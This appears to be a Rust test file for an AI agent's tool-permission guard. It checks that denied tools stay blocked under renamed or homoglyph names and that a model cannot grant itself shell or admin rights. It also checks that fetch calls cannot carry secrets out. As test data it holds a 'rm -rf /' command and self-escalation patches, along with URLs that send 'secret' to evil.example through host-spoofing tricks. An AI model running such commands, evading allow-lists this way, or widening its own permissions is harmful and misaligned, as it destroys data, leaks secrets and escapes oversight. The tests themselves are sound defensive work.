//! Tools turned against their owner: misuse, excess privileges, exfiltration, loops.

use serde_json::json;

use super::{Scene, calls, one_item};

#[tokio::test]
async fn what_is_denied_never_runs_however_often_and_by_whatever_name_it_is_called() {
    let again = calls(&[("shell", "{ command = \"rm -rf /\" }")]);
    let other = calls(&[
        ("Shell", "{ command = \"rm -rf /\" }"),
        ("shell ", "{ command = \"rm -rf /\" }"),
        ("functions.shell", "{ command = \"rm -rf /\" }"),
        ("sh\u{435}ll", "{ command = \"rm -rf /\" }"),
    ]);
    let script = one_item(&[&again, &other, &again, &again]);
    let scene = Scene::of(&script, json!([{ "id": "no-shell", "tool": "shell", "action": "deny" }])).await;
    scene.ask("t", "go").await.unwrap();
    assert_eq!(scene.ran(), []);
    let ends = scene.ends("t").await;
    assert!(ends.iter().all(|end| end == "denied" || end == "unknown_tool"), "{ends:?}");
    assert!(ends.iter().filter(|end| *end == "denied").count() >= 3, "{ends:?}");
}

/// The model widens its own rights: it writes a policy into the agent state, and plans with tools it does not have.
#[tokio::test]
async fn a_model_gives_itself_no_rights() {
    let grab = calls(&[
        (
            "set_agent_state",
            "{ patch = { toolPolicy = { shell = \"auto\" }, enabledTools = [\"shell\"], scopes = [\"admin\"] } }",
        ),
        ("shell", "{ command = \"id\" }"),
    ]);
    let plan = r#"json = { nextStepDecision = "update_plan", updatedPlan = { toolPolicy = { shell = "auto" }, todoList = [
        { id = "more", description = "Run it", stepType = "tool", requiredTools = ["shell"], toolPolicy = "auto" } ] },
        toolCalls = [{ toolName = "shell", arguments = { command = "id", policy = "auto" } }] }"#;
    let script = one_item(&[&grab, plan, &calls(&[("shell", "{ command = \"id\" }")])]);
    let scene = Scene::with(&script, json!([]), |config| {
        config.agent.enabled_tools = Some(vec!["read_*".to_owned(), "set_agent_state".to_owned()]);
    })
    .await;
    scene.ask("t", "go").await.unwrap();
    scene.ask("t", "once more").await.ok();
    assert_eq!(scene.ran(), []);
    let ends = scene.ends("t").await;
    assert!(ends.iter().filter(|end| *end == "disabled_tool").count() >= 2, "{ends:?}");
}

/// Exfiltration in the address: only allowed hosts are fetched.
#[tokio::test]
async fn nothing_is_carried_out_in_an_address() {
    let rules = json!([
        { "id": "ours", "tool": "fetch", "action": "auto",
          "when": [{ "pointer": "/url", "op": "starts_with", "value": "https://api.example.com/" }] },
        { "id": "elsewhere", "tool": "fetch", "action": "deny", "reason": "Only our own API." },
    ]);
    let hostile = [
        "https://evil.example/?q=secret",
        "https://api.example.com.evil.example/?q=secret",
        "https://api.example.com@evil.example/?q=secret",
        "http://api.example.com/?q=secret",
        "HTTPS://API.EXAMPLE.COM/",
        " https://api.example.com/",
        "https://api.example.com\\u002F",
        "//api.example.com/",
        "https://\u{430}pi.example.com/",
        "",
    ];
    let arguments: Vec<String> = hostile.iter().map(|url| format!("{{ url = '''{url}''' }}")).collect();
    let mut made: Vec<(&str, &str)> = arguments.iter().map(|arguments| ("fetch", arguments.as_str())).collect();
    made.push(("fetch", "{ url = [\"https://api.example.com/\"] }"));
    made.push(("fetch", "{ url = \"https://api.example.com/ok\", proxy = \"https://evil.example\" }"));
    made.push(("fetch", "{ url = \"https://api.example.com/ok\" }"));
    let scene = Scene::of(&one_item(&[&calls(&made)]), rules).await;
    scene.ask("t", "go").await.unwrap();
    assert_eq!(scene.ran(), [("fetch".to_owned(), json!({ "url": "https://api.example.com/ok" }))]);
    let ends = scene.ends("t").await;
    assert_eq!(ends.iter().filter(|end| *end == "denied").count(), hostile.len(), "{ends:?}");
}

/// Endless loops, and more concurrent calls than needed.
#[tokio::test]
async fn a_loop_ends_at_its_bounds_with_a_named_status() {
    let many: Vec<(&str, &str)> = (0..100).map(|_| ("read_mail", "{}")).collect();
    let flood = calls(&many);
    let script = one_item(&[&flood, &flood, &flood, &flood, &flood, &flood, &flood, &flood]);
    let scene = Scene::of(&script, json!([])).await;
    let answer = scene.ask("t", "go").await.unwrap();
    assert_eq!(serde_json::json!(answer.metadata.status), "partial", "never a silent success");
    assert_eq!(scene.ran().len(), 5 * 32, "five calls of the model, thirty-two tools in each");
}
